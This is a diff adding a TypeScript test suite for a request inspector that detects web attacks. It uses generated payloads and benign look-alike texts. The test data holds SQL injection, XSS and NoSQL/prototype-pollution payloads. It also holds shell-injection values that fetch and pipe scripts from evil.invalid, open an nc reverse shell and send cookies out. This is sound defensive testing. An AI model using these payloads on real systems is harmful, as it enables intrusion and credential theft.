@@ -1,0 +1,96 @@
+import fc from 'fast-check';
+import { testRequests } from './gotestwaf';
+import { inspectRequest } from '../../../lambda/runtime-guard/requests/event';
+
+const json = (body: unknown, more: object = {}) => ({ httpMethod: 'POST', path: '/orders', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body), ...more });
+
+describe('gotestwaf', () => {
+  const requests = testRequests();
+
+  test('finds each attack in each place and spelling', () => {
+    const attacks = requests.filter(({ benign }) => !benign);
+    expect(attacks.length).toBeGreaterThan(600);
+    expect(attacks.filter(({ event }) => inspectRequest(event).length === 0).map(({ payload }) => payload.slice(-80))).toEqual([]);
+  });
+
+  test('lets each benign text pass', () => {
+    const benign = requests.filter((request) => request.benign);
+    expect(new Set(benign.map(({ payload }) => payload)).size).toBe(47);
+    expect(benign.flatMap(({ event, payload }) => inspectRequest(event).map(({ attack }) => `${attack}: ${payload}`))).toEqual([]);
+  });
+});
+
+describe('generated payloads', () => {
+  const quote = fc.constantFrom('\'', '"', '\')', '1', '\'))', '%27', '-1\'');
+  const blank = fc.constantFrom(' ', '/**/', '%20', '\t', '%0a');
+  const tail = fc.constantFrom('--', '-- -', '#', ';--', '/*');
+  const cased = (text: string) => fc.array(fc.boolean(), { minLength: text.length, maxLength: text.length })
+    .map((upper) => [...text].map((letter, i) => (upper[i] ? letter.toUpperCase() : letter)).join(''));
+  const number = fc.integer({ min: 0, max: 9_999 });
+  const sql = fc.oneof(
+    fc.tuple(quote, blank, cased('or'), number, tail).map(([q, b, or, n, t]) => `${q}${b}${or}${b}${n}=${n}${b}${t}`),
+    fc.tuple(quote, blank, cased('union'), cased('select'), fc.integer({ min: 1, max: 9 }), tail).map(([q, b, union, select, n, t]) => `${q}${b}${union}${b}${select}${b}${Array(n).fill('null').join(',')}${t}`),
+    fc.tuple(quote, cased('drop'), fc.constantFrom('users', 'orders', '"Accounts"')).map(([q, drop, table]) => `${q}; ${drop} table ${table}--`),
+    fc.tuple(quote, blank, number).map(([q, b, n]) => `${q}${b}and${b}sleep(${n % 20})#`),
+    fc.tuple(quote, fc.constantFrom('version()', 'database()', 'user()')).map(([q, f]) => `${q} and extractvalue(1,concat(0x7e,${f}))--`),
+  );
+  const handler = fc.constantFrom('onload', 'onerror', 'onmouseover', 'onfocus', 'ontoggle', 'onpointerenter').chain(cased);
+  const script = fc.oneof(
+    fc.tuple(fc.constantFrom('svg', 'img src=x', 'body', 'details open', 'video', 'x'), fc.constantFrom(' ', '/', '\n'), handler, number).map(([tag, b, on, n]) => `<${tag}${b}${on}=alert(${n})>`),
+    cased('script').map((tag) => `"><${tag}>fetch('//evil.invalid?'+document.cookie)</${tag}>`),
+    cased('javascript').map((scheme) => `<a href="${scheme}:alert(1)">x</a>`),
+    number.map((n) => `';alert(${n})//`),
+  );
+  const shell = fc.tuple(fc.constantFrom(';', '|', '||', '&&', '\n', '%0a', '`', '$('), fc.constantFrom('', ' '), fc.constantFrom('whoami', 'cat /etc/hosts', 'wget http://evil.invalid/x.sh', 'ls -la', 'curl -s http://evil.invalid|sh', 'ping -c 3 127.0.0.1', 'nc -e /bin/sh 127.0.0.1 4444'))
+    .map(([separator, b, command]) => `127.0.0.1${separator}${b}${command}${separator === '`' ? '`' : separator === '$(' ? ')' : ''}`);
+
+  test.each([['SQL', sql], ['script', script], ['shell', shell]])('%s: each is found in the body of an order', (_, payload) => {
+    fc.assert(fc.property(payload, (text) => inspectRequest(json({ id: 7, note: text })).some(({ place }) => place === 'body')), { numRuns: 1_000 });
+  });
+});
+
+describe('ordinary texts', () => {
+  // written to look like an attack where people write such things
+  test.each([
+    'Please ring the bell (2x) & leave at the back; thanks!', '18" x 24" frame, 2 pcs', 'width 16" or 18"', 'He\'s 6\'2" and she\'s 5\'4"', 'Gift: "Happy birthday, Mom!" -- love, Tom', 'I said "yes" or "no"; not both', 'Size: M or L, color = blue',
+    '1 or 2 pieces', 'rock \'n\' roll', 'the boys\' -- and girls\'', 'cat food; dog food', 'Echo Dot | Alexa', 'Find it on page 3; sort by price', 'drop off at table 5; update me by text', 'Select all from the menu', 'Update set to 5', 'Order by 10 or we cancel',
+    'Delete from list please', 'union station, 2nd exit', 'Please confirm (by 5pm)', 'Confirm (y/n)', 'alert (red)', 'print (2 copies)', 'I <3 this!', 'A<B and C>D', '{{name}}, your order ships', 'Hello ${name}', 'https://shop.example.com/a?b=1&c=2#top', 'C:/Users/tom/photo.jpg',
+    '../images/pic.png', 'R&D; id 5', 'w; h; d', 'ping me at 5', 'kill bill | dvd', '10 > 9 and 3 < 4', 'O\'Brien', 'Procter & Gamble', 'Licensed under the "License");', 'email: a+b@example.com; tel: +1 (555) 010-0000', '-- Tom', '# urgent', '/* no code */ only a comment',
+  ])('%s', (text) => {
+    expect(inspectRequest(json({ note: text, [text]: 1 }))).toEqual([]);
+  });
+});
+
+describe('places', () => {
+  const ATTACK = '\' or 1=1--';
+
+  test.each([
+    ['path', { rawPath: `/orders/${encodeURIComponent(ATTACK)}` }],
+    ['path', { pathParameters: { id: ATTACK } }],
+    ['query', { queryStringParameters: { q: ATTACK } }],
+    ['query', { multiValueQueryStringParameters: { q: ['fine', ATTACK] } }],
+    ['query', { rawQueryString: `q=${encodeURIComponent(ATTACK)}` }],
+    ['header x-note', { headers: { 'X-Note': ATTACK } }],
+    ['cookies', { cookies: [`a=${ATTACK}`] }],
+    ['body', { body: Buffer.from(JSON.stringify({ a: [{ b: ATTACK }] })).toString('base64'), isBase64Encoded: true }],
+    ['body', { body: JSON.stringify({ [ATTACK]: true }) }],
+    ['body', { body: JSON.stringify({ user: { $ne: null } }) }],
+    ['body', { body: '{"a":{"__proto__":{"admin":true}}}' }],
+  ])('%s %#', (place, parts) => {
+    expect(inspectRequest({ requestContext: { http: { method: 'POST' } }, headers: {}, ...parts }).map((found) => found.place)).toEqual([place]);
+  });
+
+  test('a place is reported once, without the payload', () => {
+    const found = inspectRequest(json([ATTACK, ATTACK, '<script>alert(1)</script>']));
+    expect(found).toEqual([{ attack: 'sql-injection', place: 'body' }]);
+  });
+
+  test('what is no request is not inspected', () => {
+    expect(inspectRequest({ Records: [{ body: ATTACK }] })).toEqual([]);
+    expect(inspectRequest(null)).toEqual([]);
+  });
+
+  test('a token in the authorization header is no text', () => {
+    expect(inspectRequest(json({}, { headers: { authorization: ATTACK } }))).toEqual([]);
+  });
+});
